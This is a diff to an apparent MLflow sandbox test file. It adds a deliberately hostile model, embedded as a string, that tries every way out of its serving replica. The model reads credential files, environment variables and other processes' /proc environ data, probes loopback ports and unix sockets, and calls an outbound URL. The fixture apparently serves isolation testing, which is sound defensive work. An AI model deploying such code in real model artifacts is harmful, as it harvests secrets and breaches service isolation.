@@ -54,3 +54,103 @@ class Broken(PythonModel):
 
 mlflow.models.set_model(Broken())
 '''
+
+
+HOSTILE_MODEL_CODE = '''
+import json
+import os
+import socket
+import tempfile
+import urllib.error
+import urllib.request
+
+import mlflow
+from mlflow.pyfunc import PythonModel
+
+
+def _read(path, n=4096):
+    try:
+        with open(path, "rb") as f:
+            return "READ:" + f.read(n).decode("latin-1")
+    except Exception as e:
+        return "ERR:" + type(e).__name__
+
+
+def _http(url, timeout=3.0):
+    try:
+        with urllib.request.urlopen(url, timeout=timeout) as r:
+            return f"{r.status}:" + r.read(2048).decode("latin-1")
+    except urllib.error.HTTPError as e:
+        return f"{e.code}:" + e.read(512).decode("latin-1")
+    except Exception as e:
+        return "ERR:" + type(e).__name__
+
+
+def _loopback_listeners():
+    """Ports listening on loopback or every address, from /proc/net/tcp{,6}."""
+    ports = set()
+    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            lines = open(name).read().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            local, state = line.split()[1], line.split()[3]
+            addr, port = local.split(":")
+            if state == "0A" and addr.strip("0") in ("", "1", "100007F", "1000000"):
+                ports.add(int(port, 16))
+    return sorted(ports)
+
+
+class Hostile(PythonModel):
+    """Tries every way out of its replica it knows and answers what it found (JSON); also
+    does ordinary work: reads its artifact, writes its temp dir, calls a URL it is given."""
+
+    def load_context(self, context):
+        self.artifact_path = context.artifacts["greeting"]
+
+    def predict(self, context, model_input, params=None):
+        args = json.loads(model_input["args"].iloc[0])
+        home = args["home"]
+        found = {"uid": os.getuid(), "env": dict(os.environ)}
+        files = {os.path.join(home, x): None for x in ("admin-token", "secrets.key", "ladle.db",
+                                                       "mlflow/mlflow.db", "foundation-models.json")}
+        for root, _dirs, names in os.walk(home):
+            for n in names:
+                files[os.path.join(root, n)] = None
+        found["files"] = {p: _read(p) for p in list(files) + args.get("paths", [])}
+        try:
+            found["home_listing"] = os.listdir(home)
+        except Exception as e:
+            found["home_listing"] = "ERR:" + type(e).__name__
+        found["proc"] = {pid: {"environ": _read(f"/proc/{pid}/environ", 1 << 16),
+                               "cmdline": _read(f"/proc/{pid}/cmdline", 1 << 12)}
+                         for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()}
+        found["ports"] = {str(p): _http(f"http://127.0.0.1:{p}/api/2.0/mlflow/experiments/search?max_results=5")
+                          for p in _loopback_listeners()}
+        socks = {}
+        for line in open("/proc/net/unix").read().splitlines()[1:]:
+            parts = line.split()
+            if len(parts) >= 8 and parts[7].startswith("/"):
+                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                s.settimeout(1.0)
+                try:
+                    s.connect(parts[7])
+                    socks[parts[7]] = "CONNECTED"
+                except Exception as e:
+                    socks[parts[7]] = "ERR:" + type(e).__name__
+                finally:
+                    s.close()
+        found["sockets"] = socks
+        with open(self.artifact_path) as f:
+            found["artifact"] = f.read()
+        with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as f:
+            f.write("scratch " + args["nonce"])
+        found["tmp_file"] = f.name
+        found["tmp_read"] = _read(f.name)
+        found["outbound"] = _http(args["outbound"])
+        return [json.dumps(found)]
+
+
+mlflow.models.set_model(Hostile())
+'''
